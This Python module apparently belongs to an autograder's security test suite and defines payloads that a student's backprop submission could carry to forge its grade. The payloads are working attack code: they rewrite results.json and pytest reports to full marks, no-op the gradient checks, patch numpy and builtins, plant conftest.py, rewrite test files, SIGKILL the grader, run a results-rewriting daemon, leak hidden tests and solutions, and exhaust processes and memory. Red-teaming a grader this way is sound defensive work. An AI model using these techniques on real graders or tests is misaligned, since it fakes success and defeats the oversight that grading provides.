"""The payloads: what a student could put in the files of ``backprop/`` to forge a grade.

A submission may only hold the student package's own files (``backprop/__init__.py``,
``backprop/linear.py``, ...): the grader takes nothing else. So each payload is code
*appended* to the untouched stub of one or more of those files, and every helper it
needs is inlined (``PRELUDE``). ``@@TOKEN@@`` is replaced by the run's unique token.

Every payload is bounded and acts only on its own grading:

- it writes, signals or plants files only where the token shows the target belongs to
  this grading (a path holding the token, or a process whose command line holds it: the
  token is a component of the submission's path, so the grader's command line holds it);
- processes it starts carry the token in ``argv`` (and ``ATTACK_TOKEN`` in their
  environment), exit by themselves (``sleep 60``; the daemon stops after 20 s, and an
  alarm kills it at 25 s), and there are at most 51 of them per grading (one daemon);
- memory is taken 256 MiB at a time, inside ``try/except MemoryError``, and never below
  3 GiB of the host's available memory;
- the file walks (information leaks) are limited in depth, in entries and in bytes.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from review_payloads import (
    REVIEW_CLOSED_FORM_FIT,
    REVIEW_EXIT_70,
    REVIEW_IPC_RECEIVE,
    REVIEW_IPC_SEND,
    REVIEW_LEAK_FORMAT,
    REVIEW_RCE,
)

# An honest train_step: the only honest work in the payloads that carry one. The
# solution's own code; the stubs of every other file stay untouched.
HONEST_TRAIN_STEP = '''
def train_step(net, loss_fn, opt, X, T):
    """The solution's train_step: forward, loss, backward, step."""
    Y = net.forward(X)
    loss = loss_fn.forward(Y, T)
    net.backward(loss_fn.backward())
    opt.step()
    return loss
'''

PRELUDE = r'''
# ---- attack-suite prelude (inlined: a submission holds only the package's own files) ----
import json as _atk_json
import os as _atk_os
import signal as _atk_signal
import sys as _atk_sys

_ATK_TOKEN = "@@TOKEN@@"
_ATK_PASSED = {"passed": True, "skipped": False, "errors": [], "warnings": [], "output": ""}
_ATK_TOTAL = 27.0


def _atk_cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return [a.decode("utf-8", "replace") for a in f.read().split(b"\0") if a]
    except OSError:
        return []


def _atk_ppid(pid):
    try:
        with open(f"/proc/{pid}/stat", "rb") as f:
            return int(f.read().rsplit(b")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def _atk_cwd(pid):
    try:
        return _atk_os.readlink(f"/proc/{pid}/cwd")
    except OSError:
        return "/nonexistent"


def _atk_chain():
    """This process and its ancestors up to the outermost one of this grading (whose
    command line holds the token); [] when none does: then do nothing outside."""
    pids, pid = [], _atk_os.getpid()
    while pid > 1 and len(pids) < 64:
        pids.append(pid)
        pid = _atk_ppid(pid)
    marked = [i for i, p in enumerate(pids) if _ATK_TOKEN in "\0".join(_atk_cmdline(p))]
    return pids[: marked[-1] + 1] if marked else []


def _atk_ours(path):
    try:
        return _ATK_TOKEN in _atk_os.path.realpath(path)
    except (OSError, ValueError):
        return False


def _atk_option_paths(args, cwd):
    """Files a command line names: values of --*report*/--*result* options, *.json args."""
    found = []
    for i, a in enumerate(args):
        key, eq, value = a.partition("=")
        if a.startswith("--") and ("report" in key or "result" in key):
            if eq:
                found.append(value)
            elif i + 1 < len(args):
                found.append(args[i + 1])
        elif a.endswith(".json"):
            found.append(a)
    return [p if _atk_os.path.isabs(p) else _atk_os.path.join(cwd, p) for p in found]


def _atk_full_marks(path):
    """Rewrite (or create) a Gradescope results.json as full marks."""
    try:
        with open(path, encoding="utf-8") as f:
            data = _atk_json.load(f)
    except (OSError, ValueError):
        data = {}
    if not isinstance(data, dict):
        data = {}
    tests = data.get("tests") if isinstance(data.get("tests"), list) else []
    for t in tests:
        if isinstance(t, dict):
            t.update(score=t.get("max_score", 0), status="passed", output="Passed.")
    total = sum(t.get("max_score", 0) for t in tests if isinstance(t, dict)) or _ATK_TOTAL
    data.update(score=total, tests=tests, output=f"Score: {total:g} / {total:g}.")
    data.setdefault("execution_time", 1.0)
    with open(path, "w", encoding="utf-8") as f:
        _atk_json.dump(data, f)


def _atk_forge(path):
    """'Passed' into a file the grader reads: results.json as full marks, else a report."""
    if _atk_os.path.basename(path) == "results.json":
        _atk_full_marks(path)
    else:
        with open(path, "w", encoding="utf-8") as f:
            _atk_json.dump(_ATK_PASSED, f)


def _atk_once(name):
    """True for the first caller in this grading (a token-named flag file in /tmp);
    where /tmp is not writable, once per process."""
    try:
        _atk_os.close(_atk_os.open(f"/tmp/{_ATK_TOKEN}.{name}",
                                   _atk_os.O_CREAT | _atk_os.O_EXCL | _atk_os.O_WRONLY, 0o600))
        return True
    except FileExistsError:
        return False
    except OSError:
        done = globals().setdefault("_atk_done", set())
        if name in done:
            return False
        done.add(name)
        return True
# ---- end of prelude ----
'''

# 1. Forge the worker's own report from its command line, then leave before the test runs.
REPORT_PATHS = r'''
def _atk_report_paths():
    """Report files on this process's command line and, if it is part of this grading,
    on the parent's."""
    me = _atk_os.getpid()
    paths = set(_atk_option_paths(list(_atk_sys.argv) + _atk_cmdline(me), _atk_os.getcwd()))
    chain = _atk_chain()
    if len(chain) > 1:
        paths.update(_atk_option_paths(_atk_cmdline(chain[1]), _atk_cwd(chain[1])))
    return sorted(paths)


def _atk_forge_reports():
    for path in _atk_report_paths():
        try:
            _atk_forge(path)
        except OSError:
            pass
'''

REPORT_EXIT = r"""
if _atk_chain():
    _atk_forge_reports()
    _atk_os._exit(0)
"""

REPORT_ATEXIT = r"""
import atexit as _atk_atexit

if _atk_chain():
    _atk_atexit.register(_atk_forge_reports)  # after pytest wrote its own report
"""

# 2a. Make the checks vacuous: gradcheck, numpy.allclose, and the test module's globals.
PATCH_CHECKS = r'''
import threading as _atk_threading
import time as _atk_time

import numpy as _atk_np

import gradcheck as _atk_gc
import gradcheck.checks as _atk_gc_checks


def _atk_noop(*args, **kwargs):
    return None


_atk_gc.check_layer = _atk_gc_checks.check_layer = _atk_noop
_atk_gc.check_loss = _atk_gc_checks.check_loss = _atk_noop
_atk_np.allclose = lambda *args, **kwargs: True
_atk_np.testing.assert_allclose = _atk_noop


def _atk_patch_test_modules():
    """For 10 s, replace check_layer/check_loss in every test module that appears."""
    end = _atk_time.monotonic() + 10.0
    while _atk_time.monotonic() < end:
        for mod in list(_atk_sys.modules.values()):
            name = _atk_os.path.basename(getattr(mod, "__file__", None) or "")
            if name.startswith("test_"):
                for attr in ("check_layer", "check_loss"):
                    if getattr(mod, attr, _atk_noop) is not _atk_noop:
                        setattr(mod, attr, _atk_noop)
        _atk_time.sleep(0.005)


_atk_threading.Thread(target=_atk_patch_test_modules, daemon=True).start()
'''

# 2b. Tamper with pytest's reports and the grader's reporting plugin, in-process.
PATCH_REPORTING = r"""
class _AtkAlwaysPassed(dict):
    def __setitem__(self, key, value):
        dict.__setitem__(self, key, "passed")


class _AtkSink(list):
    def append(self, item):
        pass


for _atk_name, _atk_mod in list(_atk_sys.modules.items()):
    if _atk_name.startswith("chainrule.assignment"):
        for _atk_value in list(vars(_atk_mod).values()):
            if isinstance(_atk_value, dict) and "phases" in _atk_value:
                _atk_value["phases"] = _AtkAlwaysPassed(
                    {k: "passed" for k in _atk_value["phases"]}
                )
                _atk_value["errors"] = _AtkSink()
                _atk_value["output"] = ""

try:
    from _pytest.reports import TestReport as _AtkTestReport

    _atk_from_item_and_call = _AtkTestReport.from_item_and_call.__func__

    def _atk_passed_report(cls, item, call):
        report = _atk_from_item_and_call(cls, item, call)
        report.outcome, report.longrepr = "passed", None
        return report

    _AtkTestReport.from_item_and_call = classmethod(_atk_passed_report)
except Exception:
    pass
"""

# 2c. Replace gradcheck itself in sys.modules before the test file imports it.
FAKE_GRADCHECK_MODULE = r"""
import types as _atk_types

for _atk_name in [n for n in _atk_sys.modules if n == "gradcheck" or n.startswith("gradcheck.")]:
    del _atk_sys.modules[_atk_name]
_atk_fake = _atk_types.ModuleType("gradcheck")
_atk_fake.__path__ = []
_atk_fake.check_layer = _atk_fake.check_loss = lambda *args, **kwargs: None
_atk_fake.GradcheckError = AssertionError
_atk_sys.modules["gradcheck"] = _atk_fake
"""

# 3. A daemon (double fork + setsid) that rewrites this grading's results for 20 s.
DAEMON = r"""
import json, os, signal, sys, time

TOKEN = sys.argv[1]
signal.alarm(25)  # a hard stop, whatever happens below
END = time.monotonic() + 20.0
PASSED = {"passed": True, "skipped": False, "errors": [], "warnings": [], "output": ""}


def cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return [a.decode("utf-8", "replace") for a in f.read().split(b"\0") if a]
    except OSError:
        return []


def forge(path):
    if os.path.basename(path) != "results.json":
        with open(path, "w", encoding="utf-8") as f:
            json.dump(PASSED, f)
        return
    with open(path, encoding="utf-8") as f:
        data = json.load(f)
    tests = data.get("tests") if isinstance(data.get("tests"), list) else []
    for t in tests:
        t.update(score=t.get("max_score", 0), status="passed", output="Passed.")
    total = sum(t.get("max_score", 0) for t in tests) or 27.0
    data.update(score=total, tests=tests, output=f"Score: {total:g} / {total:g}.")
    with open(path, "w", encoding="utf-8") as f:
        json.dump(data, f)


known = {}  # path -> (mtime, size) after our last write


def consider(path, on_cmdline):
    base = os.path.basename(path)
    if base == "results.json" or (on_cmdline and base.endswith(".json")):
        if on_cmdline or TOKEN in os.path.realpath(path):
            known.setdefault(path, None)


while time.monotonic() < END:
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        args = cmdline(entry)
        joined = "\0".join(args)
        if TOKEN not in joined or not ("chainrule" in joined or "pytest" in joined):
            continue
        try:
            cwd = os.readlink(f"/proc/{entry}/cwd")
        except OSError:
            continue
        for i, a in enumerate(args):
            named = None
            if a.startswith("--") and ("report" in a or "result" in a) and i + 1 < len(args):
                named = args[i + 1]
            elif a.endswith(".json"):
                named = a
            if named:
                consider(os.path.join(cwd, named), True)
        d = cwd
        while TOKEN in d and d != "/":
            consider(os.path.join(d, "results.json"), False)
            consider(os.path.join(d, "results", "results.json"), False)
            d = os.path.dirname(d)
    for path, mark in list(known.items()):
        try:
            st = os.stat(path)
        except OSError:
            continue
        if (st.st_mtime_ns, st.st_size) != mark:
            try:
                forge(path)
                st = os.stat(path)
                known[path] = (st.st_mtime_ns, st.st_size)
            except (OSError, ValueError, AttributeError):
                pass
    time.sleep(0.05)
"""

START_DAEMON = r"""
def _atk_start_daemon():
    if not _atk_chain() or not _atk_once("daemon"):
        return
    pid = _atk_os.fork()
    if pid == 0:  # first child: new session, fork again, leave at once
        try:
            _atk_os.setsid()
            if _atk_os.fork() == 0:
                null = _atk_os.open(_atk_os.devnull, _atk_os.O_RDWR)
                for fd in (0, 1, 2):
                    _atk_os.dup2(null, fd)
                exe = _atk_sys.executable
                _atk_os.execv(exe, [exe, "-c", _ATK_DAEMON, _ATK_TOKEN])
        finally:
            _atk_os._exit(0)
    _atk_os.waitpid(pid, 0)


_atk_start_daemon()
"""

# 4. Full marks into the grader's --results, then SIGKILL the grader.
KILL_GRADER = r"""
def _atk_take_over():
    chain = _atk_chain()
    for i, pid in enumerate(chain[1:], start=1):
        args = _atk_cmdline(pid)
        text = " ".join(args)
        if not ("assignment" in text and "grade" in text and _ATK_TOKEN in text):
            continue
        for j, a in enumerate(args):
            path = None
            if a == "--results" and j + 1 < len(args):
                path = args[j + 1]
            elif a.startswith("--results="):
                path = a.split("=", 1)[1]
            if path:
                path = _atk_os.path.join(_atk_cwd(pid), path)
                try:
                    _atk_os.makedirs(_atk_os.path.dirname(path), exist_ok=True)
                    _atk_full_marks(path)
                except OSError:
                    pass
        for victim in [pid, *reversed(chain[1:i])]:  # the grader first, then its children
            try:
                _atk_os.kill(victim, _atk_signal.SIGKILL)
            except OSError:
                pass
        _atk_os._exit(0)


_atk_take_over()
"""

# 5. Plant conftest.py / tests/conftest.py / pytest.ini where the later test runs look.
PLANT_CONFTEST = r'''
_ATK_CONFTEST = """
import pytest


@pytest.hookimpl(tryfirst=True)
def pytest_pyfunc_call(pyfuncitem):
    return True  # "called": the test's body never runs


@pytest.hookimpl(hookwrapper=True, trylast=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome, report.longrepr = "passed", None
"""


def _atk_plant():
    if not _atk_chain():
        return
    d, dirs = _atk_os.getcwd(), []
    workspace = _atk_os.path.basename(d).startswith("chainrule-")  # the grader's own folder
    while d != "/" and (_atk_ours(d) or (not dirs and workspace)):
        dirs.append(d)
        d = _atk_os.path.dirname(d)
    for d in dirs:
        planted = (("conftest.py", _ATK_CONFTEST), ("tests/conftest.py", _ATK_CONFTEST),
                   ("pytest.ini", "[pytest]\nfilterwarnings = ignore\n"))
        for rel, text in planted:
            path = _atk_os.path.join(d, rel)
            if _atk_os.path.isdir(_atk_os.path.dirname(path)):
                try:
                    with open(path, "w", encoding="utf-8") as f:
                        f.write(text)
                except OSError:
                    pass


_atk_plant()
'''

# 6. No tampering with the checker, only with the numbers it sees: NaN when perturbed.
NAN_COMMON = r'''
import numpy as _atk_np


def _atk_unperturbed(obj, *arrays):
    """True when these arrays equal what this object saw at its first call."""
    seen = [_atk_np.array(a, dtype=_atk_np.float64) for a in arrays]
    first = obj.__dict__.setdefault("_atk_first", [a.copy() for a in seen])
    return all(a.shape == b.shape and _atk_np.array_equal(a, b) for a, b in zip(seen, first))
'''

NAN_LINEAR = r"""
class Linear(Linear):
    def forward(self, x):
        X = _atk_np.array(x, dtype=_atk_np.float64)
        self._X = X
        Y = X @ self.W.value.T + self.b.value
        if _atk_unperturbed(self, X, self.W.value, self.b.value):
            return Y
        return _atk_np.full_like(Y, _atk_np.nan)

    def backward(self, grad_out):
        self.W.grad[...] = 0.0
        self.b.grad[...] = 0.0
        return _atk_np.zeros_like(self._X)
"""

NAN_ELEMENTWISE = r"""
class @@CLASS@@(@@CLASS@@):
    def forward(self, x):
        z = _atk_np.array(x, dtype=_atk_np.float64)
        out = super().forward(z)
        self._atk_shape = z.shape
        return out if _atk_unperturbed(self, z) else _atk_np.full_like(out, _atk_np.nan)

    def backward(self, grad_out):
        return _atk_np.zeros(self._atk_shape)
"""

NAN_LOSSES = r"""
class MSELoss(MSELoss):
    def forward(self, y, t):
        loss = super().forward(y, t)
        return loss if _atk_unperturbed(self, y) else float("nan")

    def backward(self):
        return _atk_np.zeros_like(self._Y)


class SoftmaxCrossEntropyLoss(SoftmaxCrossEntropyLoss):
    def forward(self, y, t):
        loss = super().forward(y, t)
        return loss if _atk_unperturbed(self, y) else float("nan")

    def backward(self):
        return _atk_np.zeros_like(self._p)
"""

# 7. Every backward delegated to the framework's own implementation.
DELEGATE_LINEAR = r"""
import layers as _atk_layers


class Linear(Linear):
    def backward(self, grad_out):
        M, D = self.W.shape
        ref = _atk_layers.Linear(D, M)
        ref.W.value, ref.b.value = self.W.value, self.b.value
        ref.forward(self._X)
        grad_x = ref.backward(grad_out)
        self.W.grad[...] = ref.W.grad
        self.b.grad[...] = ref.b.grad
        return grad_x
"""

DELEGATE_ELEMENTWISE = r"""
import layers as _atk_layers


class @@CLASS@@(@@CLASS@@):
    def forward(self, x):
        self._atk_z = x
        return super().forward(x)

    def backward(self, grad_out):
        ref = _atk_layers.@@CLASS@@()
        ref.forward(self._atk_z)
        return ref.backward(grad_out)
"""

DELEGATE_LOSSES = r"""
import losses as _atk_losses


class MSELoss(MSELoss):
    def forward(self, y, t):
        self._atk_args = (y, t)
        return super().forward(y, t)

    def backward(self):
        ref = _atk_losses.MSELoss(reduction=self.reduction)
        ref.forward(*self._atk_args)
        return ref.backward()


class SoftmaxCrossEntropyLoss(SoftmaxCrossEntropyLoss):
    def forward(self, y, t):
        self._atk_args = (y, t)
        return super().forward(y, t)

    def backward(self):
        ref = _atk_losses.SoftmaxCrossEntropyLoss(reduction=self.reduction)
        ref.forward(*self._atk_args)
        return ref.backward()
"""

DELEGATE_SGD = r"""
import optim as _atk_optim


class SGD(SGD):
    def step(self):
        if "_atk_ref" not in self.__dict__:
            self._atk_ref = _atk_optim.SGD(self.params, lr=self.lr, momentum=self.momentum)
        self._atk_ref.step()
"""

# 8. A visible test's failure message carrying every test file (and solution) on disk.
LEAK = r'''
import re as _atk_re


def _atk_walk(root, depth, out, budget):
    skip = {"__pycache__", ".git", "site-packages", "node_modules", ".venv", "venv"}
    try:
        entries = sorted(_atk_os.scandir(root), key=lambda e: e.name)
    except OSError:
        return
    for e in entries:
        budget[0] -= 1
        if budget[0] <= 0:
            return
        try:
            if e.is_dir(follow_symlinks=False):
                if depth > 0 and e.name not in skip:
                    _atk_walk(e.path, depth - 1, out, budget)
            elif e.name.endswith(".py") and (
                e.name.startswith("test_") or "/tests/" in e.path or "/solution/" in e.path
            ):
                path = _atk_os.path.realpath(e.path)
                if path not in out:
                    out.append(path)
        except OSError:
            pass


def _atk_loot():
    """Every test (and solution) file in reach, nearest first, at most ~200 kB of text."""
    cached = globals().get("_atk_loot_text")
    if cached is not None:
        return cached
    cwd = _atk_os.getcwd()
    roots = [(cwd, 4), (_atk_os.path.dirname(cwd), 3),
             (_atk_os.path.dirname(_atk_os.path.dirname(cwd)), 3)]
    interpreter = {_atk_os.path.realpath(p) for p in (_atk_sys.prefix, _atk_sys.base_prefix)}
    for pid in _atk_chain() or [_atk_os.getpid()]:
        base = _atk_cwd(pid)
        for a in _atk_cmdline(pid)[1:]:
            p = _atk_os.path.realpath(_atk_os.path.join(base, a))
            if a.startswith("-") or not _atk_os.path.exists(p):
                continue
            if any(p == d or p.startswith(d + "/") for d in interpreter):
                continue
            d = p if _atk_os.path.isdir(p) else _atk_os.path.dirname(p)
            roots += [(d, 3), (_atk_os.path.dirname(d), 3)]
    roots.append(("/autograder", 5))
    try:
        for e in sorted(_atk_os.listdir("/tmp")):
            if e.startswith(("pytest-of-", "chainrule-", "autograder")) or _ATK_TOKEN in e:
                roots.append((_atk_os.path.join("/tmp", e), 6))
    except OSError:
        pass
    found, budget = [], [20000]
    for root, depth in roots:
        if root not in ("/", ""):
            _atk_walk(root, depth, found, budget)
    texts, seen, size = [], set(), 0
    for path in found:
        try:
            with open(path, encoding="utf-8", errors="replace") as f:
                text = f.read(20000)
        except OSError:
            continue
        if text in seen or size + len(text) > 200000:
            continue
        seen.add(text)
        size += len(text)
        texts.append(f"==== {path}\n{text}")
    names = sorted(set(_atk_re.findall(r"^def (test_\w+)", "\n".join(texts), _atk_re.M)))
    text = "Test functions on disk: " + ", ".join(names) + "\n\n" + "\n\n".join(texts)
    globals()["_atk_loot_text"] = text
    return text


class Linear(Linear):
    def backward(self, grad_out):
        raise AssertionError(_atk_loot())
'''

# 9a. 50 sleeping processes and a setsid'ed one, left behind.
SPAWN = r"""
import subprocess as _atk_subprocess
import shutil as _atk_shutil

_ATK_CHILDREN = []


def _atk_spawn():
    if not _atk_once("spawn"):
        return
    sleep = _atk_shutil.which("sleep") or "/bin/sleep"
    env = dict(_atk_os.environ, ATTACK_TOKEN=_ATK_TOKEN)
    quiet = dict(stdin=_atk_subprocess.DEVNULL, stdout=_atk_subprocess.DEVNULL,
                 stderr=_atk_subprocess.DEVNULL, env=env, executable=sleep)
    for _ in range(50):
        _ATK_CHILDREN.append(_atk_subprocess.Popen([f"{_ATK_TOKEN}-sleeper", "60"], **quiet))
    _ATK_CHILDREN.append(
        _atk_subprocess.Popen([f"{_ATK_TOKEN}-setsid", "60"], start_new_session=True, **quiet)
    )


class Sigmoid(Sigmoid):
    def backward(self, grad_out):
        # Only in the visible test's process (its batch is (4, 6); the hidden test's is
        # (1, 5)): at most 51 processes even where the /tmp flag is private to a worker.
        if getattr(grad_out, "size", 0) > 5:
            _atk_spawn()
        return super().backward(grad_out)
"""

# 9b. A 20 MiB exception message.
HUGE_MESSAGE = r"""
class Sigmoid(Sigmoid):
    def backward(self, grad_out):
        raise AssertionError("backward failed: " + "spam, eggs and spam " * (20 * 2**20 // 20))
"""

# 9c. 10 GiB of memory, 256 MiB at a time, never below 3 GiB available on the host.
MEMORY = r'''
import numpy as _atk_np


def _atk_available():
    try:
        with open("/proc/meminfo") as f:
            for line in f:
                if line.startswith("MemAvailable:"):
                    return int(line.split()[1]) * 1024
    except (OSError, ValueError):
        pass
    return 0


def _atk_hog():
    """Reserve 10 GiB (an address-space limit refuses here), then make it resident page
    by page (a memory cgroup stops it there), 256 MiB at a time, under two guards."""
    import time

    try:
        block = _atk_np.empty(10 * 2**30 // 8)
    except MemoryError:
        return "MemoryError reserving 10 GiB"
    got, start, step = 0, time.monotonic(), 2**28 // 8
    try:
        for i in range(0, block.size, step):
            if _atk_available() < 3 * 2**30:
                return f"stopped at {got >> 20} MiB: the host is low on memory (safety guard)"
            if time.monotonic() - start > 40:
                return f"stopped at {got >> 20} MiB after 40 s (time guard)"
            block[i : i + step : 512] = 1.0  # one write per 4 KiB page
            got += 2**28
        return f"allocated {got >> 20} MiB: no memory limit"
    except MemoryError:
        return f"MemoryError after {got >> 20} MiB"
    finally:
        del block


class Softmax(Softmax):
    def backward(self, grad_out):
        if _atk_once("memory"):
            raise MemoryError(_atk_hog())
        return super().backward(grad_out)
'''

# 10a. The solution, when it is on disk: next to --tests (the documented layout), or
# in /autograder/source/solution, ../solution.
STEAL_SOLUTION = r"""
def _atk_solution_dirs():
    found = []
    for pid in _atk_chain() or [_atk_os.getpid()]:
        args, base = _atk_cmdline(pid), _atk_cwd(pid)
        for j, a in enumerate(args[:-1]):
            if a in ("--tests", "--chainrule-tests-dir"):
                tests = _atk_os.path.join(base, args[j + 1])
                found.append(_atk_os.path.join(_atk_os.path.dirname(tests.rstrip("/")), "solution"))
    found += ["/autograder/source/solution", "/autograder/solution",
              _atk_os.path.join(_atk_os.getcwd(), "..", "solution")]
    return [d for d in found if _atk_os.path.isdir(d)]


def _atk_steal(namespace):
    name = _atk_os.path.basename(namespace["__file__"])
    for d in _atk_solution_dirs():
        path = _atk_os.path.join(d, "backprop", name)
        if _atk_os.path.isfile(path):
            with open(path, encoding="utf-8") as f:
                exec(compile(f.read(), path, "exec"), namespace)
            return


_atk_steal(globals())
"""

# 10b. Shadow the framework for the later tests: gradcheck/ and sitecustomize.py in the
# workspace, which comes first on their PYTHONPATH.
SHADOW = r'''
_ATK_FAKE_GRADCHECK = """
GradcheckError = AssertionError


def check_layer(*args, **kwargs):
    return None


def check_loss(*args, **kwargs):
    return None
"""
_ATK_SITECUSTOMIZE = """
try:
    import numpy
    numpy.allclose = lambda *args, **kwargs: True
except Exception:
    pass
"""


def _atk_shadow():
    if not _atk_chain():
        return
    cwd = _atk_os.getcwd()
    for d in _atk_sys.path:
        if not d or not _atk_os.path.isdir(d):
            continue
        if not (_atk_ours(d) or (d == cwd and _atk_os.path.basename(d).startswith("chainrule-"))):
            continue
        try:
            _atk_os.makedirs(_atk_os.path.join(d, "gradcheck"), exist_ok=True)
            with open(_atk_os.path.join(d, "gradcheck", "__init__.py"), "w") as f:
                f.write(_ATK_FAKE_GRADCHECK)
            with open(_atk_os.path.join(d, "sitecustomize.py"), "w") as f:
                f.write(_ATK_SITECUSTOMIZE)
        except OSError:
            pass
        return


_atk_shadow()
'''

# 10c. Rewrite the test files the later tests will run.
REWRITE_TESTS = r"""
import re as _atk_re


def _atk_rewrite_tests():
    chain = _atk_chain()
    if not chain:
        return
    dirs = {_atk_os.path.join(_atk_os.getcwd(), "tests")}
    for pid in chain:
        args, base = _atk_cmdline(pid), _atk_cwd(pid)
        for j, a in enumerate(args[:-1]):
            if a in ("--tests", "--chainrule-tests-dir"):
                dirs.add(_atk_os.path.join(base, args[j + 1]))
    for d in dirs:
        if not (_atk_ours(d) and _atk_os.path.isdir(d)):
            continue
        for name in _atk_os.listdir(d):
            path = _atk_os.path.join(d, name)
            if not (name.startswith("test_") and name.endswith(".py")):
                continue
            try:
                with open(path, encoding="utf-8") as f:
                    names = _atk_re.findall(r"^def (test_\w+)\(", f.read(), _atk_re.M)
                with open(path, "w", encoding="utf-8") as f:
                    f.write("".join(f"def {n}():\n    pass\n\n\n" for n in names))
            except OSError:
                pass


_atk_rewrite_tests()
"""

# 10d. Values that lie: an ndarray subclass whose every comparison holds, floats whose
# every difference is 0; and a fit/accuracy that return them.
LIAR_SIGMOID = r"""
import numpy as _atk_np

_ATK_TRUE_UFUNCS = {"isfinite", "less", "less_equal", "greater", "greater_equal", "equal",
                    "logical_and", "logical_or"}


class _AtkLiar(_atk_np.ndarray):
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        plain = [_atk_np.asarray(i) if isinstance(i, _AtkLiar) else i for i in inputs]
        shape = _atk_np.broadcast(*[_atk_np.asarray(i) for i in plain]).shape
        if ufunc.__name__ in _ATK_TRUE_UFUNCS:
            return _atk_np.ones(shape, dtype=bool)
        return _atk_np.zeros(shape).view(_AtkLiar)

    def __getitem__(self, index):
        return _atk_np.asarray(_atk_np.asarray(self)[index]).view(_AtkLiar)


class Sigmoid(Sigmoid):
    def backward(self, grad_out):
        return _atk_np.zeros(_atk_np.shape(grad_out)).view(_AtkLiar)
"""

LIAR_TRAIN = r"""
class _AtkLiarFloat(float):
    def __sub__(self, other):
        return 0.0

    def __rsub__(self, other):
        return 0.0


def fit(X, T, *, hidden=16, epochs=100, seed=0, **kwargs):
    return build_net(X.shape[1], hidden, T.shape[1], seed=seed), [_AtkLiarFloat(1.0)] * epochs


def accuracy(net, X, labels):
    return 1.0
"""

# 10e. Builtins that lie to the test file's frames only: abs() is 0, isinstance() is True.
BUILTINS = r"""
import builtins as _atk_builtins

_atk_abs, _atk_isinstance = _atk_builtins.abs, _atk_builtins.isinstance


def _atk_called_from_a_test():
    name = _atk_sys._getframe(2).f_code.co_filename  # plain str methods: no builtins
    return name.rpartition("/")[2].startswith("test_")


def _atk_lying_abs(x):
    return 0.0 if _atk_called_from_a_test() else _atk_abs(x)


def _atk_lying_isinstance(obj, cls):
    return True if _atk_called_from_a_test() else _atk_isinstance(obj, cls)


_atk_builtins.abs = _atk_lying_abs
_atk_builtins.isinstance = _atk_lying_isinstance  # slows every isinstance call: 2 tests only
"""

BUILTINS_SIGMOID = r"""
import numpy as _atk_np


class Sigmoid(Sigmoid):
    def backward(self, grad_out):
        return _atk_np.zeros(_atk_np.shape(grad_out))
"""

BUILTINS_TRAIN = r"""
def fit(X, T, *, hidden=16, epochs=100, seed=0, **kwargs):
    return build_net(X.shape[1], hidden, T.shape[1], seed=seed), [0.0] * epochs


def accuracy(net, X, labels):
    return 1.0
"""

# 10f. Protocol-looking bytes (and ANSI escapes) to every descriptor, and to the parent's
# pipes and this grading's files through /proc/<ppid>/fd.
SPRAY = r"""
_ATK_MESSAGES = [
    _ATK_PASSED,
    {"type": "result", "passed": True, "status": "passed", "score": _ATK_TOTAL},
    {"verdict": "passed", "outcome": "passed", "tests": {"*": "passed"}},
    {"score": _ATK_TOTAL, "tests": [], "output": "Score: 27 / 27"},
]
_ATK_BYTES = (
    "".join(_atk_json.dumps(m) + "\n" for m in _ATK_MESSAGES)
    + "PASSED\n1 passed in 0.01s\n\x1b[2J\x1b[H\x1b[32mAll tests passed. Score: 27 / 27\x1b[0m\n"
).encode()


def _atk_spray():
    for fd in range(64):
        try:
            _atk_os.write(fd, _ATK_BYTES)
        except OSError:
            pass
    chain = _atk_chain()
    if len(chain) < 2:
        return
    fds = f"/proc/{chain[1]}/fd"
    try:
        names = _atk_os.listdir(fds)
    except OSError:
        return
    for name in names:
        try:
            target = _atk_os.readlink(f"{fds}/{name}")
            if not (target.startswith("pipe:") or _atk_ours(target)):
                continue
            flags = _atk_os.O_WRONLY | _atk_os.O_APPEND | _atk_os.O_NONBLOCK
            fd = _atk_os.open(f"{fds}/{name}", flags)
            try:
                _atk_os.write(fd, _ATK_BYTES)
            finally:
                _atk_os.close(fd)
        except OSError:
            pass


_atk_spray()
"""

# 10g. Rewrite the installed framework's gradcheck, when it lives in this grading
# (Gradescope: the venv the autograder built, writable by whoever grades).
TAMPER_FRAMEWORK = r"""
import gradcheck.checks as _atk_checks

for _atk_mod, _atk_fn in ((_atk_checks, "check_layer"), (_atk_checks, "check_loss")):
    _atk_path = _atk_os.path.realpath(_atk_mod.__file__)
    if _atk_ours(_atk_path) and _atk_os.access(_atk_path, _atk_os.W_OK):
        with open(_atk_path, "a", encoding="utf-8") as _atk_f:
            _atk_f.write(f"\n\ndef {_atk_fn}(*args, **kwargs):\n    return None\n")
"""


def _cls(template: str, name: str) -> str:
    return template.replace("@@CLASS@@", name)


@dataclass(frozen=True)
class Attack:
    """One attack: the files it appends code to, and how to grade it cheaply."""

    key: str  # "1a", "10c": the numbering
    name: str  # the test id
    summary: str
    files: dict[str, str]  # "backprop/<file>.py" -> code appended to the stub
    only: tuple[str, ...]  # --only globs (Gradescope layout: the files they name)
    honest_train_step: bool = False  # the payload also carries an honest train_step
    settle: float = 0.0  # seconds to wait after the grader returns (daemons race it)
    timeout: float = 30.0  # --timeout per test (command-line entry)
    entries: tuple[str, ...] = ("cli", "gradescope")
    extra: tuple[str, ...] = field(default=())  # extra checks, by name (see the harness)


_LINEAR_V = "test_linear.py::test_linear_backward"
_SIGMOID_V = "test_sigmoid.py::test_sigmoid_backward"
_SOFTMAX_V = "test_softmax.py::test_softmax_backward"

ATTACKS = [
    Attack(
        "1a",
        "report-then-exit",
        "__init__ writes a 'passed' report to the paths on its and its parent's command "
        "lines, then os._exit(0)",
        {"backprop/__init__.py": PRELUDE + REPORT_PATHS + REPORT_EXIT},
        ("test_sigmoid.py", "test_sgd.py::test_sgd_step_plain"),
    ),
    Attack(
        "1b",
        "report-at-exit",
        "the same from an atexit handler, after pytest wrote its own report",
        {"backprop/__init__.py": PRELUDE + REPORT_PATHS + REPORT_ATEXIT},
        ("test_sigmoid.py", "test_sgd.py::test_sgd_step_plain"),
        entries=("cli",),
    ),
    Attack(
        "2a",
        "patch-checks",
        "at import: gradcheck.check_layer/check_loss (and in gradcheck.checks and "
        "the test module's globals) := no-op, numpy.allclose := True",
